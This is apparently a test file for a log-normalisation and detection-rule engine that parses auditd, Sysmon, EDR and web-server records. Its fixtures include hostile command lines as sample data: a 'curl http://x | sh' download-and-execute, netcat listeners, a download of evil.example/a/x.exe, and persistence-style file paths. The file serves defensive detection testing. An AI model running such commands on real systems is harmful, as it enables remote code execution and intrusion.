import { compile, logsourcesOf, type JsonObject, type SourceKind } from '../../index.js';
import { native } from '../../../test/rules.js';

const labels = (kind: SourceKind, event: JsonObject): string[] =>
  logsourcesOf(kind, event).map(({ product = '', category, service }) =>
    [product, category ?? service ?? '*'].join('/'),
  );
const none = compile([]);
const read = (kind: SourceKind, event: JsonObject, ...fields: string[]): Record<string, string> =>
  none.read({ logsource: kind, native: native(event) }, fields);
const matches = (kind: SourceKind, event: JsonObject, logsource: JsonObject, selection: JsonObject): boolean =>
  compile([
    {
      path: 'r.yml',
      text: JSON.stringify({ title: 't', id: 'r', logsource, detection: { s: selection, condition: 's' } }),
    },
  ]).match({ logsource: kind, native: native(event) }).length === 1;

const EXEC =
  'type=SYSCALL msg=audit(1793200000.123:77): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55e1 pid=11 uid=33 euid=33 ses=4 comm="sh" exe="/usr/bin/dash" key="exec"';
const ARGS = 'type=EXECVE msg=audit(1793200000.123:77): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F78207C207368';
const CWD = 'type=CWD msg=audit(1793200000.123:77): cwd="/var/www"';
const COMMAND = 'sh -c curl http://x | sh';

describe('Linux', () => {
  it.each<[string, JsonObject]>([
    ['lines of one event', { message: [EXEC, ARGS, CWD].join('\n'), host: { name: 'web1' } }],
    ['behind a syslog header', { message: `<13>Nov  2 10:00:00 web1 audispd: node=web1 ${EXEC}\n${ARGS}\n${CWD}` }],
    [
      'as members named after their types',
      {
        ID: '1793200000.123:77',
        NODE: 'web1',
        SYSCALL: { arch: '0xc000003e', syscall: 59, uid: 33, exe: '/usr/bin/dash', comm: 'sh' },
        EXECVE: { argc: 3, ARGV: ['sh', '-c', 'curl http://x | sh'] },
        CWD: { cwd: '/var/www' },
      },
    ],
    [
      'as Auditbeat writes them',
      {
        auditd: { message_type: 'syscall', data: { syscall: 'execve', a0: '55d1' } },
        process: {
          executable: '/usr/bin/dash',
          name: 'sh',
          args: ['sh', '-c', 'curl http://x | sh'],
          working_directory: '/var/www',
        },
        user: { id: '33' },
        host: { name: 'web1' },
      },
    ],
  ])('reads a process creation from audit records: %s', (_, event) => {
    expect(labels('linux', event)).toEqual(['linux/process_creation', 'linux/auditd', 'linux/*']);
    expect(
      read('linux', event, 'Image', 'CommandLine', 'CurrentDirectory', 'User', 'Computer', 'a1', 'SYSCALL'),
    ).toEqual({
      Image: '/usr/bin/dash',
      CommandLine: COMMAND,
      CurrentDirectory: '/var/www',
      User: '33',
      Computer: 'web1',
      a1: '-c',
      SYSCALL: 'execve',
    });
    for (const type of ['SYSCALL', 'execve'])
      expect(matches('linux', event, { product: 'linux', service: 'auditd' }, { type, a0: 'sh' })).toBe(true);
  });

  it('reads one record alone, flat or as a line', () => {
    expect(labels('linux', { type: 'EXECVE', a0: 'chmod', a1: 'u+s' })).toContain('linux/process_creation');
    expect(read('linux', { message: ARGS }, 'CommandLine', 'a2')).toEqual({
      CommandLine: COMMAND,
      a2: 'curl http://x | sh',
    });
    expect(
      read('linux', { message: 'type=PROCTITLE msg=audit(1.2:3): proctitle=7368002D630069640A' }, 'CommandLine'),
    ).toEqual({ CommandLine: 'sh -c id\n' });
  });

  it('names files that were made, and not folders they are in', () => {
    const event = {
      message: [
        EXEC.replace('syscall=59', 'syscall=257'),
        CWD,
        'type=PATH msg=audit(1793200000.123:77): item=0 name="/var/www" nametype=PARENT',
        'type=PATH msg=audit(1793200000.123:77): item=1 name="x.php" nametype=CREATE',
      ].join('\n'),
    };
    expect(labels('linux', event)).toContain('linux/file_event');
    expect(read('linux', event, 'TargetFilename', 'SYSCALL')).toEqual({
      TargetFilename: '/var/www/x.php',
      SYSCALL: 'openat',
    });
  });

  it('reads addresses of connections', () => {
    const event = {
      message: [
        EXEC.replace('syscall=59', 'syscall=42'),
        'type=SOCKADDR msg=audit(1793200000.123:77): saddr=020001BBCB0071090000000000000000',
      ].join('\n'),
    };
    expect(labels('linux', event)).toContain('linux/network_connection');
    expect(read('linux', event, 'DestinationIp', 'DestinationPort', 'Initiated')).toEqual({
      DestinationIp: '203.0.113.9',
      DestinationPort: '443',
      Initiated: 'true',
    });
  });

  it('reads what user space says inside a message', () => {
    const event = {
      message: `type=SERVICE_STOP msg=audit(1.2:3): pid=1 uid=0 msg='unit=auditd comm="systemd" exe="/usr/lib/systemd/systemd" res=success'`,
    };
    expect(read('linux', event, 'type', 'unit', 'comm')).toEqual({
      type: 'SERVICE_STOP',
      unit: 'auditd',
      comm: 'systemd',
    });
  });

  it('reads Sysmon, as JSON and as XML in a log line', () => {
    const xml = {
      message:
        'Nov  2 10:00:00 web1 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Computer>web1</Computer></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl x &amp;&amp; y</Data></EventData></Event>',
    };
    const json = {
      Event: {
        System: { Provider: { Name: 'Linux-Sysmon' }, EventID: 1, Computer: 'web1' },
        EventData: { Image: '/usr/bin/curl', CommandLine: 'curl x && y' },
      },
    };
    for (const event of [xml, json]) {
      expect(labels('linux', event)).toEqual(['linux/process_creation', 'linux/sysmon', 'linux/*']);
      expect(read('linux', event, 'CommandLine', 'Computer')).toEqual({ CommandLine: 'curl x && y', Computer: 'web1' });
    }
  });

  it("reads what Azure's collectors forward", () => {
    const sentinel = (SyslogMessage: string, ProcessName: string): JsonObject => ({
      TimeGenerated: '2026-11-02T09:20:00.250Z',
      Computer: 'web1',
      HostName: 'web1',
      Facility: 'user',
      SyslogMessage,
      ProcessName,
      Type: 'Syslog',
    });
    const auoms = sentinel(
      'type=AUOMS_EXECVE audit(1793611200.250:77): SchemaVersion="1" node=web1 arch=x86_64 syscall=execve syscall_r=59 success=yes a0=7fcd a1=7fce ppid=10 pid=11 user=tomcat uid=1001 ses="-1" comm="bash" exe="/bin/bash" key=auoms cwd="/" name="/bin/bash" path_name=["/bin/bash","/lib64/ld.so"] path_nametype=["NORMAL","NORMAL"] argc=3 cmdline="bash -c "id | base64"" redactors= containerid=',
      'auoms',
    );
    expect(labels('linux', auoms)).toEqual(['linux/process_creation', 'linux/auditd', 'linux/*']);
    expect(read('linux', auoms, 'CommandLine', 'Image', 'User', 'Computer', 'a1', 'name')).toEqual({
      CommandLine: 'bash -c "id | base64"',
      Image: '/bin/bash',
      User: 'tomcat',
      Computer: 'web1',
      a1: '-c',
      name: '/bin/bash',
    });
    const sysmon = sentinel(
      '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Computer>web1</Computer></System><EventData><Data Name="Image">/bin/bash</Data></EventData></Event>',
      'sysmon',
    );
    expect(labels('linux', sysmon)).toEqual(['linux/process_creation', 'linux/sysmon', 'linux/*']);
  });

  it('tells the service of a log line from its program', () => {
    expect(
      labels('linux', { message: '<38>1 2026-11-02T10:00:00Z web1 sshd 12 - - Failed password for root' }),
    ).toEqual(['linux/sshd', 'linux/auth', 'linux/syslog', 'linux/*']);
    expect(labels('linux', { MESSAGE: '(root) CMD (x)', SYSLOG_IDENTIFIER: '/usr/sbin/CRON' })).toEqual([
      'linux/cron',
      'linux/syslog',
      'linux/*',
    ]);
    const sudo = {
      message: 'Nov  2 10:00:00 web1 sudo[7]:      ada : TTY=pts/0 ; PWD=/srv/ada ; USER=#-1 ; COMMAND=/bin/sh',
    };
    expect(labels('linux', sudo)).toContain('linux/sudo');
    expect(read('linux', sudo, 'USER', 'COMMAND', 'PWD', 'SUDO_BY', 'Computer')).toEqual({
      USER: '#-1',
      COMMAND: '/bin/sh',
      PWD: '/srv/ada',
      SUDO_BY: 'ada',
      Computer: 'web1',
    });
  });

  it("reads an agent's records in ECS", () => {
    const event = {
      event: { category: ['process'], type: ['start'] },
      process: { executable: '/bin/nc', args: ['nc', '-l'], parent: { executable: '/bin/sh' } },
      host: { hostname: 'web1' },
    };
    expect(labels('linux', event)).toContain('linux/process_creation');
    expect(read('linux', event, 'Image', 'CommandLine', 'ParentImage', 'Computer')).toEqual({
      Image: '/bin/nc',
      CommandLine: 'nc -l',
      ParentImage: '/bin/sh',
      Computer: 'web1',
    });
  });

  it.each<[JsonObject]>([
    [{}],
    [{ message: null }],
    [{ SYSCALL: [] }],
    [{ message: 'type= msg=audit(' }],
    [{ auditd: { data: [] } }],
    [{ process: 1, event: 2 }],
    [{ EXECVE: { ARGV: [null, {}] } }],
    [{ type: 'EXECVE', a0: null }],
  ])('takes %j as it is', (event) => {
    expect(labels('linux', event)).toContain('linux/*');
  });
});

describe("agents' records", () => {
  it.each<[string, 'linux' | 'macos', JsonObject]>([
    [
      "of Falcon's feed",
      'linux',
      {
        aid: 'a1',
        cid: 'c1',
        event_platform: 'Lin',
        ComputerName: 'web1',
        event_simpleName: 'ProcessRollup2',
        ImageFileName: '/usr/bin/nc',
        CommandLine: 'nc -l',
        ParentBaseFileName: 'sh',
      },
    ],
    [
      "of Falcon's feed, wrapped",
      'macos',
      {
        aid: 'a1',
        event: {
          event_platform: 'Mac',
          ComputerName: 'web1',
          event_simpleName: 'ProcessRollup2',
          ImageFileName: '/usr/bin/nc',
          CommandLine: 'nc -l',
          ParentBaseFileName: 'sh',
        },
      },
    ],
    [
      'of osquery',
      'macos',
      {
        name: 'pack_x_es_process_events',
        hostIdentifier: 'web1',
        action: 'added',
        columns: { path: '/usr/bin/nc', cmdline: 'nc -l', parent_path: 'sh', pid: '7' },
      },
    ],
  ])('are read: %s', (_, kind, event) => {
    expect(labels(kind, event)).toContain(`${kind}/process_creation`);
    expect(read(kind, event, 'Image', 'CommandLine', 'ParentImage', 'Computer')).toEqual({
      Image: '/usr/bin/nc',
      CommandLine: 'nc -l',
      ParentImage: 'sh',
      Computer: 'web1',
    });
  });
  it('tell connections and files', () => {
    const connection = {
      event_simpleName: 'NetworkConnectIP4',
      RemoteAddressIP4: '203.0.113.9',
      RemotePort: '443',
      ConnectionDirection: '0',
      aid: 'a1',
    };
    expect(labels('linux', connection)).toContain('linux/network_connection');
    expect(read('linux', connection, 'DestinationIp', 'DestinationPort', 'Initiated', 'Computer')).toEqual({
      DestinationIp: '203.0.113.9',
      DestinationPort: '443',
      Initiated: 'true',
      Computer: 'a1',
    });
    expect(
      read(
        'linux',
        { name: 'file_events', columns: { target_path: '/etc/cron.d/x', action: 'CREATED' }, hostIdentifier: 'web1' },
        'TargetFilename',
      ),
    ).toEqual({ TargetFilename: '/etc/cron.d/x' });
  });
});

describe('macOS', () => {
  it.each<[string, JsonObject]>([
    [
      'Endpoint Security',
      {
        event: { exec: { args: ['osascript', '-e', 'x'], target: { executable: { path: '/usr/bin/osascript' } } } },
        process: { executable: { path: '/bin/zsh' } },
        host: { hostname: 'mac1' },
      },
    ],
    [
      'an alert of Jamf Protect',
      {
        host: { hostname: 'mac1' },
        match: { event: { pid: 7, type: 1, subType: 7 } },
        related: {
          processes: [
            { pid: 6, path: '/bin/zsh' },
            { pid: 7, ppid: 6, path: '/usr/bin/osascript', args: ['osascript', '-e', 'x'] },
          ],
        },
      },
    ],
    [
      'the audit trail',
      {
        header: { event_name: 'AUE_EXECVE' },
        exec_args: { args: { 0: 'osascript', 1: '-e', 2: 'x' } },
        path: ['/usr/bin/osascript'],
        subject: { process_name: '/bin/zsh' },
        host_info: { host_name: 'mac1' },
      },
    ],
    [
      'Santa',
      {
        machine_id: 'mac1',
        execution: {
          target: { executable: { path: '/usr/bin/osascript' } },
          instigator: { executable: { path: '/bin/zsh' } },
          args: ['b3Nhc2NyaXB0', 'LWU=', 'eA=='],
        },
      },
    ],
  ])('reads a process creation from %s', (_, event) => {
    expect(labels('macos', event)).toContain('macos/process_creation');
    expect(read('macos', event, 'Image', 'CommandLine', 'ParentImage', 'Computer')).toEqual({
      Image: '/usr/bin/osascript',
      CommandLine: 'osascript -e x',
      ParentImage: '/bin/zsh',
      Computer: 'mac1',
    });
  });
  it('reads files that are made', () => {
    const event = {
      event: {
        create: { destination: { new_path: { dir: { path: '/Library/LaunchDaemons' }, filename: 'x.plist' } } },
      },
      process: { executable: { path: '/bin/sh' } },
    };
    expect(labels('macos', event)).toContain('macos/file_event');
    expect(read('macos', event, 'TargetFilename', 'Image')).toEqual({
      TargetFilename: '/Library/LaunchDaemons/x.plist',
      Image: '/bin/sh',
    });
    expect(read('macos', { match: { event: { path: '/etc/x', pid: 1 } } }, 'TargetFilename')).toEqual({
      TargetFilename: '/etc/x',
    });
  });
  it.each<[JsonObject]>([
    [{}],
    [{ event: { exec: null } }],
    [{ match: { event: {} }, related: { processes: {} } }],
    [{ header: { event_name: 'AUE_EXECVE' }, exec_args: { args: [] } }],
    [{ execution: { args: [1] } }],
  ])('takes %j as it is', (event) => {
    expect(labels('macos', event)).toContain('macos/*');
  });
});

describe('requests', () => {
  it.each<[SourceKind, JsonObject]>([
    ['web-proxy', { url: 'http://evil.example:8080/a/x.exe?q=1', method: 'GET' }],
    ['web-proxy', { event: { url: 'evil.example/a/x.exe?q=1', requestmethod: 'GET' } }],
    ['web-proxy', { url: { original: 'http://evil.example/a/x.exe?q=1' }, http: { request: { method: 'GET' } } }],
    ['web-server', { request: 'GET /a/x.exe?q=1 HTTP/1.1', http_host: 'evil.example' }],
    [
      'web-server',
      {
        message: '10.1.1.1 - - [02/Nov/2026:10:00:00 +0100] "GET /a/x.exe?q=1 HTTP/1.1" 200 5 "-" "curl"',
        vhost: 'evil.example',
      },
    ],
    ['web-server', { 'cs-uri-stem': '/a/x.exe', 'cs-uri-query': 'q=1', 'cs-method': 'GET', 'cs-host': 'evil.example' }],
  ])('of a %s have an address and its parts (%#)', (kind, event) => {
    expect(read(kind, event, 'cs-uri-stem', 'c-uri-query', 'c-uri-extension', 'cs-method', 'cs-host')).toEqual({
      'cs-uri-stem': '/a/x.exe',
      'c-uri-query': 'q=1',
      'c-uri-extension': 'exe',
      'cs-method': 'GET',
      'cs-host': 'evil.example',
    });
    for (const wanted of ['q=1', '/a/x.exe?q=1'])
      expect(
        matches(kind, event, { category: kind === 'web-proxy' ? 'proxy' : 'webserver' }, { 'cs-uri-query': wanted }),
      ).toBe(true);
  });
  it('of a combined log have their status, visitor and program', () => {
    const event = {
      message: '10.1.1.1 - ada [02/Nov/2026:10:00:00 +0100] "POST /a HTTP/1.1" 403 5 "http://r/" "curl/8"',
    };
    expect(read('web-server', event, 'sc-status', 'c-ip', 'cs-username', 'cs-user-agent', 'cs-referer')).toEqual({
      'sc-status': '403',
      'c-ip': '10.1.1.1',
      'cs-username': 'ada',
      'cs-user-agent': 'curl/8',
      'cs-referer': 'http://r/',
    });
  });
  it.each<[JsonObject]>([[{}], [{ url: {} }], [{ request: 7 }], [{ message: '- - [' }], [{ url: '?' }]])(
    'takes %j as it is',
    (event) => expect(labels('web-server', event)).toEqual(['/webserver']),
  );
});

describe('long texts', () => {
  it.each([
    ['one word', 'a'.repeat(60_000)],
    ['colons', ':'.repeat(60_000)],
    ['pairs', 'a=1 '.repeat(15_000)],
    ['quotes', 'a="'.repeat(20_000)],
    ['headers', 'CEF:0|'.repeat(10_000)],
    ['records', 'type=X msg=audit('.repeat(4_000)],
    ['tags', '<Data Name="'.repeat(5_000)],
    ['requests', '"GET /'.repeat(10_000)],
    ['hexadecimal', 'EF'.repeat(30_000)],
    ['connections', ' for a:1/1 to '.repeat(4_000)],
  ])('are read in no time: %s', (_, text) => {
    const before = process.cpuUsage().user;
    for (const start of [
      '',
      'type=EXECVE msg=audit(1.2:3): a0=',
      'type=EXECVE msg=audit(1.2:3): ',
      '%ASA-6-302013: Built outbound TCP connection 1 for ',
      '%FTD-6-430003: ',
      'filterlog: ',
      'Linux-Sysmon <EventID>1</EventID>',
    ]) {
      for (const kind of ['linux', 'firewall', 'dns', 'web-proxy', 'web-server'] as const)
        read(kind, { message: start + text }, 'src_ip', 'CommandLine', 'c-uri');
    }
    expect((process.cpuUsage().user - before) / 1_000).toBeLessThan(2_000);
  });
});
